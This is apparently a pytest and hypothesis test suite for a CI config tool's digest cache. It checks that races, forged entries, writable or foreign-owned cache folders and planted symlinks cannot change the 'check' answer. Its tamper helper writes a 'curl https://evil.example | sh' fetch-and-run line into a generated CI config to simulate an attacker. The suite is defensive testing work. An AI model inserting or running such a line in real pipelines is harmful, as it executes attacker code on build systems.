"""check's digest cache: faster on unchanged inputs, never a different answer.

RACE: the profile changes between the key and the render. FORGE: an entry written by someone
else, or a cache folder others can write. PLANT: a symlink at the temporary or entry name. And a
property: for any sequence of profile and config states, `check` answers exactly what it answers
with CICONF_NO_CACHE=1.
"""

from __future__ import annotations

import functools
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import PROFILES
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ciconf import actions, cache

CONFIG = actions.DEFAULT_CONFIG
PROFILE_A = (PROFILES / "ci-cd-example.yaml").read_bytes()
PROFILE_B = PROFILE_A.replace(b"command: composer test", b"command: composer test:all")
BROKEN = b"project: demo\ntest:\n  imgae: cimg/base:2024.01\n  command: make\n"
OTHER_UID = 65534  # nobody


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CICONF_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("CICONF_NO_CACHE", raising=False)
    Path("ciconf.yaml").write_bytes(PROFILE_A)
    assert actions.render(None, None, False) == actions.OK
    return tmp_path


def check(capsys) -> tuple[int, str, str]:
    code = actions.check(None, Path(CONFIG))
    out, err = capsys.readouterr()
    return code, out, err


def rendered(profile: bytes) -> str:
    return actions.generated_files(profile, "ciconf.yaml", CONFIG)[0][1]


def entry_for(profile: bytes) -> str:
    return actions.cache_entry(profile, "ciconf.yaml", CONFIG)


def forge(folder: Path, profile: bytes, config_bytes: bytes) -> None:
    """Write the entry an attacker would: 'these profile bytes render to this config'."""
    line = f"{cache.bytes_digest(config_bytes)} {os.fsencode(CONFIG).hex()}\n"
    (folder / entry_for(profile)).write_bytes(cache.seal(line.encode()))


def tamper() -> bytes:
    config = Path(CONFIG)
    bad = config.read_bytes().replace(
        b"composer test", b"curl https://evil.example | sh; composer test"
    )
    config.write_bytes(bad)
    return bad


def refuse_rendering(monkeypatch):
    def fail(*_args, **_kwargs):
        raise AssertionError("rendered although the cache knew the answer")

    monkeypatch.setattr("ciconf.profile.load.parse_profile", fail)


# --- what the cache is for ---------------------------------------------------------------------


def test_unchanged_inputs_are_answered_from_the_cache(project, monkeypatch, capsys):
    refuse_rendering(monkeypatch)
    assert actions.check(None, Path(CONFIG)) == actions.OK
    assert "in sync" in capsys.readouterr().err


def test_a_hand_edited_config_is_still_drift(project, monkeypatch, capsys):
    config = Path(CONFIG)
    config.write_text(config.read_text().replace("composer test", "composer tests"))
    assert actions.check(None, config) == actions.DRIFT
    assert "+      command: composer test\n" in capsys.readouterr().out


def test_a_changed_profile_is_rendered_again(project, capsys):
    profile = Path("ciconf.yaml")
    profile.write_text(profile.read_text().replace("region: ap-northeast-1", "region: eu-west-1"))
    assert actions.check(None, Path(CONFIG)) == actions.DRIFT
    assert "eu-west-1" in capsys.readouterr().out


def test_changed_ciconf_code_invalidates_every_entry(project, monkeypatch):
    from ciconf.profile import load

    monkeypatch.setattr(cache, "_source_digest", lambda: b"another version of ciconf")
    parsed = []
    real = load.parse_profile_document
    monkeypatch.setattr(
        load, "parse_profile_document", lambda text, path: parsed.append(path) or real(text, path)
    )
    assert actions.check(None, Path(CONFIG)) == actions.OK
    assert parsed == ["ciconf.yaml"]


def test_dependency_versions_are_part_of_the_key(project, monkeypatch):
    from importlib.metadata import version

    found = "\n".join(cache.dependency_versions()).lower()
    for distribution in ("PyYAML", "pydantic", "pydantic_core"):
        assert f"{distribution}-{version(distribution)}.dist-info".lower() in found
    before = entry_for(PROFILE_A)
    monkeypatch.setattr(
        cache, "dependency_versions", lambda: [found.replace("pyyaml-", "pyyaml-0.0.")]
    )
    assert entry_for(PROFILE_A) != before


def test_other_output_path_python_or_directory_is_another_entry(project, monkeypatch):
    here = entry_for(PROFILE_A)
    assert here != cache.key(PROFILE_A, "ciconf.yaml", ["other.yml"])
    assert here != cache.key(PROFILE_A, "./ciconf.yaml", [CONFIG])
    assert here != entry_for(PROFILE_B)
    (project / "sub").mkdir()
    monkeypatch.chdir("sub")
    assert entry_for(PROFILE_A) != here
    monkeypatch.chdir(project)
    monkeypatch.setattr(sys, "version", sys.version + " (another build)")
    assert entry_for(PROFILE_A) != here


def test_no_cache_means_no_files(project, monkeypatch):
    monkeypatch.setenv("CICONF_NO_CACHE", "1")
    monkeypatch.setenv("CICONF_CACHE_DIR", str(project / "nocache"))
    assert actions.check(None, Path(CONFIG)) == actions.OK
    assert not (project / "nocache").exists()


def test_an_unwritable_cache_only_costs_a_render(project, monkeypatch):
    blocker = project / "blocked"
    blocker.write_text("a file where the cache folder would be")
    monkeypatch.setenv("CICONF_CACHE_DIR", str(blocker / "cache"))
    assert actions.check(None, Path(CONFIG)) == actions.OK


@pytest.mark.parametrize(
    "content", [b"\xff\xfe not a digest", b"", b"0" * 64, b"a" * 70000, b"0" * 64 + b" zz\n"]
)
def test_a_corrupt_entry_is_ignored(project, content, capsys):
    (project / "cache" / entry_for(PROFILE_A)).write_bytes(content)
    tamper()
    assert check(capsys)[0] == actions.DRIFT


def test_the_cache_folder_is_created_private(tmp_path, monkeypatch):
    folder = tmp_path / "deep" / "cache"
    monkeypatch.setenv("CICONF_CACHE_DIR", str(folder))
    cache.store("0" * 64, [(CONFIG, "1" * 64)])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / ("0" * 64)).stat().st_mode) == 0o600
    assert cache.lookup("0" * 64) == [(CONFIG, "1" * 64)]


def test_a_readable_but_not_writable_folder_of_ours_is_made_private(tmp_path, monkeypatch):
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)  # what an older ciconf left: nobody else could write into it
    monkeypatch.setenv("CICONF_CACHE_DIR", str(folder))
    cache.store("0" * 64, [(CONFIG, "1" * 64)])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert cache.lookup("0" * 64) == [(CONFIG, "1" * 64)]


# --- RACE ----------------------------------------------------------------------------------------


def test_a_profile_edited_between_key_and_render_cannot_poison_the_cache(
    project, monkeypatch, capsys
):
    """The edit lands after check read the profile: what is stored belongs to the bytes rendered."""
    real = actions.generated_files

    def edit_then_render(raw, path, config, stacks_dir=None):
        Path("ciconf.yaml").write_bytes(PROFILE_B if raw == PROFILE_A else PROFILE_A)
        return real(raw, path, config, stacks_dir)

    Path(CONFIG).write_text(rendered(PROFILE_B))
    (project / "cache").chmod(0o700)
    shutil.rmtree(project / "cache")
    monkeypatch.setattr(actions, "generated_files", edit_then_render)
    assert check(capsys)[0] == actions.DRIFT  # read A, the file became B meanwhile
    monkeypatch.setattr(actions, "generated_files", real)
    Path("ciconf.yaml").write_bytes(PROFILE_A)  # reverted; the config is still B's
    assert check(capsys)[0] == actions.DRIFT
    files = actions.generated_files(PROFILE_A, "ciconf.yaml", CONFIG, actions.DEFAULT_STACKS_DIR)
    assert cache.lookup(entry_for(PROFILE_A)) == [
        (target, cache.text_digest(text)) for target, text in files
    ]


FLIPPER = """
import os, sys, time
print("flipping", flush=True)
while True:
    for name in sys.argv[1:]:  # whole files, as an editor saves: every read sees A or B
        with open(name, "rb") as source, open(".next.yaml", "wb") as handle:
            handle.write(source.read())
        os.replace(".next.yaml", "ciconf.yaml")
        time.sleep(0.001)
"""


RACE_SECONDS = 2.0


def test_checks_racing_a_flipping_profile_never_answer_in_sync_afterwards(project, capsys):
    """The issue's script: checks while another process rewrites the profile, then the truth."""
    (project / "a.yaml").write_bytes(PROFILE_A)
    (project / "b.yaml").write_bytes(PROFILE_B)
    configs = {PROFILE_A: rendered(PROFILE_A), PROFILE_B: rendered(PROFILE_B)}
    for config_of in (PROFILE_B, PROFILE_A):
        Path(CONFIG).write_text(configs[config_of])
        flipper = subprocess.Popen(
            [sys.executable, "-c", FLIPPER, "a.yaml", "b.yaml"],
            cwd=project,
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            assert flipper.stdout.readline() == "flipping\n"
            codes, until = set(), time.monotonic() + RACE_SECONDS
            while time.monotonic() < until:
                codes.add(answer(capsys)[0])
        finally:
            flipper.kill()
            flipper.wait()
        assert codes <= {
            actions.OK,
            actions.DRIFT,
            actions.INPUT_ERROR,
        }  # a half-written profile is bad input
        for profile, expected in ((PROFILE_A, configs[PROFILE_A]), (PROFILE_B, configs[PROFILE_B])):
            Path("ciconf.yaml").write_bytes(profile)
            want = actions.OK if expected == configs[config_of] else actions.DRIFT
            assert check(capsys)[0] == want
            assert check(capsys)[0] == want  # and again, now surely from the cache


# --- FORGE ---------------------------------------------------------------------------------------


def test_a_forged_entry_in_our_private_folder_is_believed(project, capsys):
    """The test below can fail: a forged entry where it is trusted does change the answer."""
    forge(project / "cache", PROFILE_A, tamper())
    shutil.rmtree("cloudformation")  # the forged entry lists the config only: no stack is stale
    assert check(capsys)[0] == actions.OK


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o1777, 0o722])
def test_a_folder_others_can_write_is_not_used(project, capsys, mode):
    folder = project / "cache"
    forge(folder, PROFILE_A, tamper())
    folder.chmod(mode)
    assert check(capsys)[0] == actions.DRIFT
    (folder / entry_for(PROFILE_A)).unlink()
    Path(CONFIG).write_text(rendered(PROFILE_A))
    assert check(capsys)[0] == actions.OK
    assert list(folder.iterdir()) == []  # nothing stored there either
    assert stat.S_IMODE(folder.stat().st_mode) == mode  # and its mode left as it was


def test_a_folder_owned_by_someone_else_is_not_used(project, capsys):
    folder = project / "cache"
    forge(folder, PROFILE_A, tamper())
    os.chown(folder, OTHER_UID, OTHER_UID)
    assert check(capsys)[0] == actions.DRIFT


def test_an_entry_owned_by_someone_else_is_ignored(project, capsys):
    folder = project / "cache"
    forge(folder, PROFILE_A, tamper())
    os.chown(folder / entry_for(PROFILE_A), OTHER_UID, OTHER_UID)
    assert check(capsys)[0] == actions.DRIFT


def test_a_symlinked_cache_folder_is_not_used(project, monkeypatch, capsys):
    real = project / "elsewhere"
    real.mkdir(mode=0o700)
    forge(real, PROFILE_A, tamper())
    (project / "link").symlink_to(real)
    monkeypatch.setenv("CICONF_CACHE_DIR", str(project / "link"))
    assert check(capsys)[0] == actions.DRIFT
    assert sorted(p.name for p in real.iterdir()) == [entry_for(PROFILE_A)]


def test_a_shared_xdg_cache_home_is_not_used(project, monkeypatch, capsys):
    shared = project / "shared"
    (shared / "ciconf").mkdir(parents=True)
    (shared / "ciconf").chmod(0o777)
    monkeypatch.delenv("CICONF_CACHE_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared))
    forge(shared / "ciconf", PROFILE_A, tamper())
    assert check(capsys)[0] == actions.DRIFT


# --- PLANT ---------------------------------------------------------------------------------------


@pytest.fixture
def victim(tmp_path):
    target = tmp_path / "victim"
    target.write_bytes(b"root's secret\n")
    target.chmod(0o600)
    return target


def test_a_symlink_at_the_temporary_name_is_not_followed(project, monkeypatch, victim, capsys):
    folder = project / "cache"
    (folder / entry_for(PROFILE_A)).unlink()
    (folder / ".planted.tmp").symlink_to(victim)
    monkeypatch.setattr(cache, "temporary_name", lambda entry: ".planted.tmp")
    assert check(capsys)[0] == actions.OK
    assert (
        victim.read_bytes() == b"root's secret\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
    )
    assert (folder / ".planted.tmp").is_symlink()  # left alone
    assert not (folder / entry_for(PROFILE_A)).exists()  # nothing stored this time


def test_a_symlink_at_the_entry_name_is_neither_read_nor_written_through(project, victim, capsys):
    folder = project / "cache"
    forged = project / "forged-entry"
    forged.write_text(f"{cache.bytes_digest(tamper())} {os.fsencode(CONFIG).hex()}\n")
    entry = folder / entry_for(PROFILE_A)
    entry.unlink()
    entry.symlink_to(forged)
    assert check(capsys)[0] == actions.DRIFT  # the forged content behind the link was not read
    Path(CONFIG).write_text(rendered(PROFILE_A))
    (folder / entry.name).unlink()
    entry.symlink_to(victim)
    assert check(capsys)[0] == actions.OK
    assert victim.read_bytes() == b"root's secret\n"
    assert not entry.is_symlink() and entry.is_file()  # the link itself was replaced


def test_a_fifo_as_entry_does_not_hang(project, capsys):
    entry = project / "cache" / entry_for(PROFILE_A)
    entry.unlink()
    os.mkfifo(entry)
    assert check(capsys)[0] == actions.OK  # within the test's time: the FIFO was never waited on


# --- the property
# ----------------------------------------------------------------------------------

PROFILES_STATES = {"A": PROFILE_A, "B": PROFILE_B, "broken": BROKEN}
CONFIG_STATES = ["rendered A", "rendered B", "tampered", "missing", "binary"]


def set_state(profile_state: str, config_state: str) -> None:
    Path("ciconf.yaml").write_bytes(PROFILES_STATES[profile_state])
    config = Path(CONFIG)
    if config_state == "missing":
        config.unlink(missing_ok=True)
        return
    config.parent.mkdir(exist_ok=True)
    contents = {
        "rendered A": lambda: rendered_once(PROFILE_A).encode(),
        "rendered B": lambda: rendered_once(PROFILE_B).encode(),
        "tampered": lambda: (
            rendered_once(PROFILE_A).encode().replace(b"composer test", b"curl x | sh")
        ),
        "binary": lambda: b"version: 2.1\n\xff\xfe\n",
    }
    config.write_bytes(contents[config_state]())


@functools.cache
def _rendered_in(profile: bytes, folder: str) -> str:
    return rendered(profile)


def rendered_once(profile: bytes) -> str:
    """rendered(profile), computed once per profile and folder: the property's every step wants
    a config, and rendering it anew each time cost more than the checks it sets up."""
    return _rendered_in(profile, os.getcwd())


def uncached(monkeypatch, capsys) -> tuple[int, str, str]:
    with monkeypatch.context() as patch:
        patch.setenv("CICONF_NO_CACHE", "1")
        return answer(capsys)


def answer(capsys) -> tuple[int, str, str]:
    from ciconf.errors import InputError

    try:
        return check(capsys)
    except InputError as error:
        out, err = capsys.readouterr()
        return actions.INPUT_ERROR, out, err + str(error)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.tuples(st.sampled_from(sorted(PROFILES_STATES)), st.sampled_from(CONFIG_STATES)),
        min_size=1,
        max_size=6,
    )
)
def test_check_with_the_cache_answers_as_without_it(project, monkeypatch, capsys, steps):
    for profile_state, config_state in steps:
        set_state(profile_state, config_state)
        expected = uncached(monkeypatch, capsys)
        assert answer(capsys) == expected  # may store an entry
        assert answer(capsys) == expected  # may use it


def test_check_reads_the_profile_once_and_renders_those_bytes(project, monkeypatch, capsys):
    from ciconf import fsutil

    reads = []
    real = fsutil.read_regular
    monkeypatch.setattr(
        fsutil, "read_regular", lambda path, limit: reads.append(path) or real(path, limit)
    )
    shutil.rmtree(project / "cache")
    assert check(capsys)[0] == actions.OK  # a render
    assert check(capsys)[0] == actions.OK  # from the cache
    assert [path for path in reads if path == "ciconf.yaml"] == [
        "ciconf.yaml",
        "ciconf.yaml",
    ]  # once per check
